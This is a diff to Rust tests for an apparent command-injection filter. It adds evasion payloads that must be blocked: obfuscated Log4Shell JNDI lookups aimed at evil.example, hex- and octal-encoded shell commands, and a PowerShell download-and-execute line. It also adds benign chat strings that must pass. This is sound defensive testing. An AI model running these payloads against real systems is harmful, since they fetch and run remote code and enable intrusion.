@@ -203,6 +203,9 @@ fn command_injection_evasions_are_blocked() {
             "${${lower:j}ndi:ldap://evil.example/a}",
             "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
             "${j${k8s:k5:-ND}i:ldap://evil.example/a}",
+            "$'\\x69\\x64'",
+            "$'\\151\\144' -a",
+            ";iwr evil.example|iex",
         ],
     );
 }
@@ -249,6 +252,8 @@ fn benign_chat_passes() {
         "call foo() then bar(); done",
         "a `b` c `d` e",
         "Hi ${name}, see ${url}",
+        "prices: NYSE | IEX | BATS",
+        "it costs $'5' \\o/",
     ] {
         assert_eq!(h.tag_of(payload), None, "{payload:?}");
     }
